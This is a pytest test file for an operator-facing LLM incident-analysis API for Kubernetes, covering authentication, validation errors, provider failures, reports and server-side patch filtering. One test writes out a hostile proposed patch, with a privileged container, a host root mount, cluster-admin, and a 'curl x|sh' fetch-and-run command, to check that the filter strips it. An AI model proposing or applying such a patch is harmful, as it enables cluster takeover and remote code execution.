"""Contract: the operator–LLM API (operator-llm-contract.txt, peers.md §2.2), FastAPI-style errors."""

from __future__ import annotations

import json

import pytest

from shared.analyze.routes import NO_PROVIDER
from tests.conftest import AUTH
from tests.support.incident_scenarios import NS, SCENARIOS, finding, text, use_scripted_llm

HEADERS = {**AUTH, "Content-Type": "application/json"}
PATCH_TYPE = "application/strategic-merge-patch+json"


@pytest.fixture
def analyze(function_client):
    return function_client("analyze")


@pytest.fixture
def llm(scripted_llm, monkeypatch):
    use_scripted_llm(monkeypatch, scripted_llm)
    return scripted_llm


def body(**overrides) -> dict:
    base = {"resource_kind": "Deployment", "resource_name": "api", "namespace": NS, "reason": "CrashLoopBackOff",
            "events": None, "spec": {"replicas": 2}, "recent_logs": None, "historical_logs": None}
    base.update(overrides)
    return base


def post(client, payload, headers=HEADERS):
    return client.post("/analyze", data=json.dumps(payload) if not isinstance(payload, str) else payload,
                       headers=headers)


@pytest.mark.parametrize("method,path", [("POST", "/analyze"), ("GET", "/analyses"), ("GET", "/reports"),
                                         ("POST", "/report-outcome")])
def test_routes_without_credentials_are_401_detail(analyze, method, path):
    response = analyze.open(path, method=method)
    assert response.status_code == 401
    assert response.get_json() == {"detail": "missing authorization header"}


def test_health_and_ready_are_public(analyze):
    assert analyze.get("/health").get_json() == {"status": "ok"}
    assert analyze.get("/ready").get_json() == {"status": "ready"}  # upstream's routers/health.py


def test_no_silent_mock_503(analyze):
    response = post(analyze, body())
    assert response.status_code == 503
    assert response.get_json() == {"detail": NO_PROVIDER}


def test_explicit_mock_opt_in_answers(analyze, monkeypatch, tmp_path):
    from shared.config import reset_settings

    script = tmp_path / "script.json"
    script.write_text(json.dumps([text(finding("Mock summary.", "Mock cause.", recommendation="Nothing."))]))
    monkeypatch.setenv("SHOAL_MOCK_SCRIPT", str(script))
    monkeypatch.setenv("SHOAL_ANALYZE_ALLOW_MOCK", "true")
    reset_settings()
    response = post(analyze, body())
    assert response.status_code == 200
    assert response.get_json() == {"summary": "Mock summary.", "root_cause": "Mock cause.",
                                   "recommendation": "Nothing.", "action": None}


def test_the_demo_model_answers_what_it_could_not_read(analyze, monkeypatch, fake_kube):
    # make run's /analyze (the demo model, SHOAL_ANALYZE_ALLOW_MOCK): LogJedi requires only resource_kind,
    # and an absent name was answered with the echo (no Finding: 502); an absent resource "looked healthy".
    from shared.config import reset_settings

    monkeypatch.delenv("SHOAL_MOCK_SCRIPT", raising=False)
    monkeypatch.setenv("SHOAL_ANALYZE_ALLOW_MOCK", "true")
    reset_settings()
    unnamed = post(analyze, {"resource_kind": "Pod"})
    assert unnamed.status_code == 200, unnamed.get_data(as_text=True)
    assert unnamed.get_json() == {"summary": "No evidence to investigate: the report names no Pod.", "root_cause": "",
                                  "recommendation": "Check the kind, name and namespace the report names.",
                                  "action": None}
    absent = post(analyze, {"resource_kind": "Deployment", "resource_name": "gone", "namespace": NS})
    assert absent.status_code == 200
    assert absent.get_json()["summary"].startswith("No evidence to investigate: Deployment gone could not be read (404")


def test_validation_errors_are_fastapi_422(analyze, llm):
    payload = body()
    del payload["resource_kind"]
    response = post(analyze, payload)
    assert response.status_code == 422
    assert response.get_json() == {"detail": [{"type": "missing", "loc": ["body", "resource_kind"],
                                               "msg": "Field required", "input": {k: v for k, v in payload.items()}}]}
    bad_event = post(analyze, body(events=[{"reason": "BackOff"}]))
    assert bad_event.get_json()["detail"][0]["loc"] == ["body", "events", 0, "type"]
    not_json = post(analyze, "{x")
    assert not_json.status_code == 422
    assert not_json.get_json()["detail"][0]["type"] == "json_invalid"
    assert llm.requests == []


def test_missing_env_analysis_with_nulls_coerced(analyze, llm, fake_kube, event_sink):
    llm.script = SCENARIOS["env"](fake_kube)
    response = post(analyze, body())
    assert response.status_code == 200
    assert response.get_json() == {
        "summary": "api crashes on start: DATABASE_URL is not set.",
        "root_cause": "Revision 2 requires the DATABASE_URL environment variable, which is missing.",
        "recommendation": "Set DATABASE_URL on the api container.",
        "action": {"type": "k8s_patch", "target": {"kind": "Deployment", "namespace": NS, "name": "api"},
                   "patch_type": PATCH_TYPE,
                   "patch": {"spec": {"template": {"spec": {"containers": [
                       {"name": "api", "env": [{"name": "DATABASE_URL",
                                                "value": "postgres://db.shop.svc:5432/api"}]}]}}}}}}
    prompt = llm.requests[0]["json"]["messages"][1]["content"]
    assert '"events": []' in prompt and '"recent_logs": []' in prompt
    [audit] = event_sink.of_type("aiagent.response.complete")
    assert audit.data["facade"] == "operator" and audit.data["total_prompt_tokens"] == 22


def test_hostile_patch_is_filtered_server_side(analyze, llm):
    target = {"kind": "Deployment", "name": "api", "namespace": NS}
    hostile = {"metadata": {"labels": {"x": "y"}}, "spec": {"replicas": 3, "template": {"spec": {
        "serviceAccountName": "cluster-admin", "hostNetwork": True,
        "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        "containers": [{"name": "api", "image": "registry.example/shop/api:5.0.1", "command": ["sh", "-c", "curl x|sh"],
                        "securityContext": {"privileged": True},
                        "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}}}}
    llm.script = [text(finding("s", "c", target=target, patch=hostile, recommendation="r"))]
    action = post(analyze, body()).get_json()["action"]
    assert action["patch"] == {"spec": {"replicas": 3, "template": {"spec": {"containers": [
        {"name": "api", "image": "registry.example/shop/api:5.0.1"}]}}}}


def test_patch_that_filters_to_nothing_becomes_null_with_the_reason(analyze, llm):
    target = {"kind": "Deployment", "name": "api", "namespace": NS}
    llm.script = [text(finding("s", "c", target=target, recommendation="Run as root.", patch={
        "spec": {"template": {"spec": {"containers": [{"name": "api", "securityContext": {"privileged": True}}]}}}}))]
    response = post(analyze, body()).get_json()
    assert response["action"] is None
    assert response["recommendation"] == ("Run as root. No patch is returned: nothing in the proposed patch is an "
                                          "allowed change (container image, env, resources, probes, or replicas).")


def test_patch_for_another_resource_is_refused(analyze, llm):
    target = {"kind": "Deployment", "name": "payments", "namespace": NS}
    llm.script = [text(finding("s", "c", target=target, recommendation="r", patch={
        "spec": {"template": {"spec": {"containers": [{"name": "api", "image": "x:1"}]}}}}))]
    response = post(analyze, body()).get_json()
    assert response["action"] is None
    assert response["recommendation"] == ("r No patch is returned: the proposed patch targets Deployment "
                                          "shop/payments, not the analysed resource.")


def test_provider_failure_is_502_never_a_mock(analyze, llm):
    llm.script = [{"error": {"status": 400, "type": "invalid_request_error", "message": "bad"}}]
    response = post(analyze, body())
    assert response.status_code == 502
    assert response.get_json() == {"detail": "LLM provider openai failed with status 400"}


def test_analyses_reports_and_outcome(analyze, llm, fake_kube):
    llm.script = SCENARIOS["oom"](fake_kube)
    post(analyze, body(resource_name="worker"))
    llm.script = [text(finding("second", "c2", recommendation="r2"))]
    post(analyze, body(resource_name="worker"))
    analyses = analyze.get("/analyses?limit=1", headers=AUTH)
    assert [a["summary"] for a in analyses.get_json()] == ["second"]
    assert analyses.headers.get("X-Continue")
    older = analyze.get(f"/analyses?limit=1&continue={analyses.headers['X-Continue']}", headers=AUTH).get_json()
    assert older[0]["summary"] == "worker is OOMKilled." and older[0]["action"]["patch"]["spec"]["template"]
    assert set(older[0]) == {"timestamp", "resource_kind", "resource_name", "namespace", "reason", "summary",
                             "root_cause", "recommendation", "action"}
    assert analyze.get("/analyses?limit=x", headers=AUTH).status_code == 422
    outcome = {"resource_kind": "Deployment", "resource_name": "worker", "namespace": NS, "outcome": "applied"}
    ok = analyze.post("/report-outcome", data=json.dumps(outcome), headers=HEADERS)
    assert ok.get_json() == {"status": "ok", "message": "Appended operator step to report"}
    reports = analyze.get("/reports", headers=AUTH).get_json()
    # Steps are numbered 1..n, as upstream and its UI expect; the operator's step is the next number.
    for report in reports:
        assert [s["step"] for s in report["steps"]] == list(range(1, len(report["steps"]) + 1))
    assert reports[0]["steps"][-1]["message"] == (f"Operator applied patch to Deployment 'worker' in namespace "
                                                  f"'{NS}' (outcome: applied).")
    assert reports[0]["steps"][0]["message"] == (f"Received analysis request for Deployment 'worker' in namespace "
                                                 f"'{NS}' (reason: CrashLoopBackOff).")
    assert "Operator applied patch" not in [s["title"] for s in reports[1]["steps"]]
    assert "Tool call: get_resource" in [s["title"] for s in reports[1]["steps"]]
    assert [s["title"] for s in reports[1]["steps"]][-5:] == ["Root cause", "Recommendation", "Patch filtered",
                                                              "Suggested patch", "Analysis complete"]
    # The next callback goes to the older report, then nothing is left.
    assert analyze.post("/report-outcome", data=json.dumps(outcome), headers=HEADERS).get_json()["status"] == "ok"
    gone = analyze.post("/report-outcome", data=json.dumps(outcome), headers=HEADERS)
    assert (gone.status_code, gone.get_json()) == (200, {"status": "not_found",
                                                         "message": "No matching report found to append operator step"})
    other = analyze.post("/report-outcome", data=json.dumps({**outcome, "resource_name": "nope"}), headers=HEADERS)
    assert other.get_json()["status"] == "not_found"


def test_openapi_lists_the_analyze_api(function_client):
    paths = function_client("meta").get("/openapi.json").get_json()["paths"]
    assert {"/analyze", "/analyses", "/reports", "/report-outcome", "/api/v1/incident/analyze"} <= set(paths)
